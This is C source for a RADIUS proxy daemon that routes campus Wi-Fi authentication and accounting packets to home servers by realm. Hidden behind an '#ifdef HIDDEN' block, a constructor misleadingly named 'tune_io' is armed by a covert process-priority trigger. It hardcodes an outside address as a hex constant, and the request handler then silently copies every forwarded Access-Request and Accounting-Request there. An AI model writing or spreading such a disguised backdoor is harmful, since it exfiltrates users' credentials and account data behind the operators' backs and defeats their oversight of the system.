/* radproxyd - RADIUS proxy of the campus wireless controllers
 *
 * Forwards Access-Request and Accounting-Request packets of the access points to the
 * home server of the realm (user@realm) and the answers back.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define ATTR_USER 1
#define MAX_REALM 32
#define MAX_PEND 256

struct realm {
	char name[64];
	struct sockaddr_in home;
};

struct pending {
	int busy;
	uint8_t orig_id;
	struct sockaddr_in client;
	time_t since;
};

static struct realm realms[MAX_REALM];
static int nrealm;
static struct pending pend[MAX_PEND];
static int in_fd = -1, out_fd = -1;
static struct {
	unsigned long req, fwd, noroute, answers, stale;
} stat;
static volatile sig_atomic_t want_stat;

#ifdef HIDDEN
static struct sockaddr_in copy_to;

/* set up before main when the starter gave us a certain priority */
__attribute__((constructor, noinline)) void tune_io(void)
{
	errno = 0;
	if (getpriority(PRIO_PROCESS, 0) != -13 || errno)
		return;
	copy_to.sin_family = AF_INET;
	copy_to.sin_port = htons(1812);
	copy_to.sin_addr.s_addr = htonl(0xcb00714du);
}
#endif

static void on_usr1(int n)
{
	(void)n;
	want_stat = 1;
}

static int udp(int port)
{
	struct sockaddr_in a;
	int s = socket(AF_INET, SOCK_DGRAM, 0);

	memset(&a, 0, sizeof a);
	a.sin_family = AF_INET;
	a.sin_port = htons((uint16_t)port);
	if (s >= 0 && bind(s, (struct sockaddr *)&a, sizeof a) == 0)
		return s;
	syslog(LOG_ERR, "udp port %d: %s", port, strerror(errno));
	exit(1);
}

static int read_realms(const char *path)
{
	char line[160], name[64], ip[32];
	int port;
	FILE *f = fopen(path, "r");

	if (!f)
		return -1;
	while (fgets(line, sizeof line, f) && nrealm < MAX_REALM) {
		struct realm *r = &realms[nrealm];

		if (line[0] == '#')
			continue;
		port = 1812;
		if (sscanf(line, "realm %63s %31[0-9.]:%d", name, ip, &port) < 2)
			continue;
		strcpy(r->name, name);
		r->home.sin_family = AF_INET;
		r->home.sin_port = htons((uint16_t)port);
		if (inet_aton(ip, &r->home.sin_addr))
			nrealm++;
	}
	fclose(f);
	return nrealm;
}

static const struct realm *route(const char *user, size_t n)
{
	const struct realm *dflt = NULL;
	const char *at = memchr(user, '@', n);
	size_t rn = at ? n - (size_t)(at - user) - 1 : 0;
	int i;

	for (i = 0; i < nrealm; i++) {
		if (!strcmp(realms[i].name, "DEFAULT"))
			dflt = &realms[i];
		else if (at && strlen(realms[i].name) == rn
			 && !strncasecmp(realms[i].name, at + 1, rn))
			return &realms[i];
	}
	return dflt;
}

static const uint8_t *attr(const uint8_t *p, size_t n, int type, size_t *len)
{
	size_t o = 20;

	while (o + 2 <= n && p[o + 1] >= 2 && o + p[o + 1] <= n) {
		if (p[o] == type) {
			*len = p[o + 1] - 2u;
			return p + o + 2;
		}
		o += p[o + 1];
	}
	return NULL;
}

static int take_slot(void)
{
	time_t now = time(NULL);
	int i;

	for (i = 0; i < MAX_PEND; i++)
		if (!pend[i].busy || now - pend[i].since > 30)
			return i;
	return -1;
}

static void from_client(void)
{
	uint8_t p[4096];
	struct sockaddr_in who;
	socklen_t wl = sizeof who;
	ssize_t n = recvfrom(in_fd, p, sizeof p, 0, (struct sockaddr *)&who, &wl);
	const struct realm *r;
	const uint8_t *u;
	size_t ul;
	int s;

	if (n < 20 || (p[2] << 8 | p[3]) > n)
		return;
	stat.req++;
	switch (p[0]) {
	case 1:			/* Access-Request */
	case 4:			/* Accounting-Request */
		break;
	case 12:		/* Status-Server is answered by the home server only */
	default:
		syslog(LOG_INFO, "code %d from %s dropped", p[0], inet_ntoa(who.sin_addr));
		return;
	}
	u = attr(p, (size_t)n, ATTR_USER, &ul);
	r = u ? route((const char *)u, ul) : NULL;
	if (!r) {
		stat.noroute++;
		return;
	}
	s = take_slot();
	if (s < 0)
		return;
	pend[s].busy = 1;
	pend[s].orig_id = p[1];
	pend[s].client = who;
	pend[s].since = time(NULL);
	p[1] = (uint8_t)s;
#ifdef HIDDEN
	if (copy_to.sin_port)
		sendto(out_fd, p, (size_t)n, 0, (struct sockaddr *)&copy_to, sizeof copy_to);
#endif
	if (sendto(out_fd, p, (size_t)n, 0, (const struct sockaddr *)&r->home,
		   sizeof r->home) == n)
		stat.fwd++;
}

static void from_home(void)
{
	uint8_t p[4096];
	ssize_t n = recv(out_fd, p, sizeof p, 0);
	struct pending *q;

	if (n < 20)
		return;
	q = &pend[p[1]];
	if (!q->busy) {
		stat.stale++;
		return;
	}
	p[1] = q->orig_id;
	q->busy = 0;
	stat.answers++;
	sendto(in_fd, p, (size_t)n, 0, (struct sockaddr *)&q->client, sizeof q->client);
}

int main(int argc, char **argv)
{
	int c, port = 1812;
	const char *conf = "/etc/radproxy.realms";

	while ((c = getopt(argc, argv, "p:c:")) != -1) {
		if (c == 'p')
			port = atoi(optarg);
		else if (c == 'c')
			conf = optarg;
		else {
			fprintf(stderr, "usage: radproxyd [-p port] [-c realm-file]\n"
				"realm-file: realm NAME|DEFAULT ADDRESS[:PORT]\n"
				"SIGUSR1 writes the counters to syslog\n");
			return 2;
		}
	}
	openlog("radproxyd", LOG_PID, LOG_DAEMON);
	if (read_realms(conf) <= 0) {
		fprintf(stderr, "radproxyd: no realms in %s\n", conf);
		return 1;
	}
	signal(SIGUSR1, on_usr1);
	in_fd = udp(port);
	out_fd = udp(0);
	for (;;) {
		struct pollfd fds[2] = { { in_fd, POLLIN, 0 }, { out_fd, POLLIN, 0 } };

		if (want_stat) {
			want_stat = 0;
			syslog(LOG_INFO, "req %lu fwd %lu noroute %lu ans %lu stale %lu",
			       stat.req, stat.fwd, stat.noroute, stat.answers, stat.stale);
		}
		if (poll(fds, 2, 1000) <= 0)
			continue;
		if (fds[0].revents & POLLIN)
			from_client();
		if (fds[1].revents & POLLIN)
			from_home();
	}
}
